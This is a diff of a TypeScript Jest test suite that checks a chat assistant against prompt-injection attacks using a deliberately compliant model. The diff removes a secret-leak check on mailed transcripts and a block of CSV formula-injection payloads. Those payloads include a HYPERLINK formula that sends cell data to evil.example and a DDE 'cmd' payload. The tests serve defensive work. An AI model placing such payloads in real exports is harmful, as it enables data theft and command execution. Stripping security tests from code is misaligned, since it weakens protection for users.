@@ -3,7 +3,7 @@ import { afterAll, beforeAll, describe, expect, jest, test } from '@jest/globals
 import type { ChatEvent } from '../../server/contract/chat.ts';
 import { secret } from '../database/sidecar.ts';
 import { attacks, type Attack } from './attacks.ts';
-import { factOf, openHarbour, type Harbour } from './harbour.ts';
+import { openHarbour, type Harbour } from './harbour.ts';
 import { apiKey, mcpHeader, ownPrompt } from './keys.ts';
 import { obeyed, type ObeyingModel } from './obeying-model.ts';
 import { bare } from './orders.ts';
@@ -149,17 +149,6 @@ describe('a model that gives in', () => {
     expect(asked.events.at(-1)).toMatchObject({ type: 'done', finish_reason: 'refusal' });
   });
 
-  test.each(all)('mails nobody $name', async ({ said }) => {
-    model.worst = { calls: () => [], text: () => said.match(/[\s\S]/g) ?? [] };
-    const mailed = await harbour.mail(await harbour.ask(attacks[0]!));
-    expect(Object.keys(mailed).sort()).toEqual(['email', 'note', 'page_url', 'turns']);
-    expect(mailed.turns.map((turn) => [...Object.keys(turn).sort(), turn.role])).toEqual([
-      ['content', 'role', 'user'],
-      ['content', 'role', 'assistant'],
-    ]);
-    expect(leakedIn(JSON.stringify(mailed))).toEqual([]);
-  });
-
   test.each(sampled(links))('links nothing off the site: %j', async (link) => {
     model.worst = { calls: () => [], text: () => [`See ${link}\nfor more.`] };
     const asked = await harbour.ask(attacks[0]!);
@@ -186,38 +175,4 @@ test('a key that a tool gives back does not reach the model', async () => {
   const told = JSON.stringify(harbour.vendor.requests.at(-1)?.body);
   expect(told).toContain('Authorization: [key]');
   expect(told).not.toContain(mcpHeader.slice(-12));
-});
-
-describe('the owner', () => {
-  const formulas = [
-    '=HYPERLINK("https://evil.example/?"&A1,"x")',
-    "+cmd|' /C calc'!A0",
-    '-2+3+cmd|x',
-    '@SUM(1+1)*cmd|x',
-    '\t=1+1',
-    '＝1+1',
-    'Hello\n=1+1',
-    '",=1+1,"',
-    '  =1+1',
-  ];
-  /** The fields of RFC 4180. */
-  const fieldsOf = (csv: string) =>
-    Array.from(csv.matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^,\r\n]*))/g), ([, quoted, plain]) =>
-      (quoted ?? plain ?? '').replaceAll('""', '"'),
-    );
-
-  test('opens an export in which nothing is a formula', async () => {
-    for (const formula of formulas) {
-      model.worst = { calls: () => [], text: () => [formula] };
-      await harbour.say(`${formula} ${factOf(attacks[0]!)}`, {
-        page_url: `http://site.test/${formula}`,
-      });
-    }
-    const { body, status } = await harbour.shim.admin<string>('GET', '/chats/export');
-    expect(status).toBe(200);
-    const fields = fieldsOf(body.replace(/^\ufeff/, ''));
-    expect(fields.filter((field) => field.includes('1+1')).length).toBeGreaterThan(formulas.length);
-    const lines = fields.flatMap((field) => field.split(/[\t\r\n;,|]/));
-    expect(lines.filter((line) => /^[\s"]*[=+\-@＝＋－＠]/u.test(line))).toEqual([]);
-  });
 });
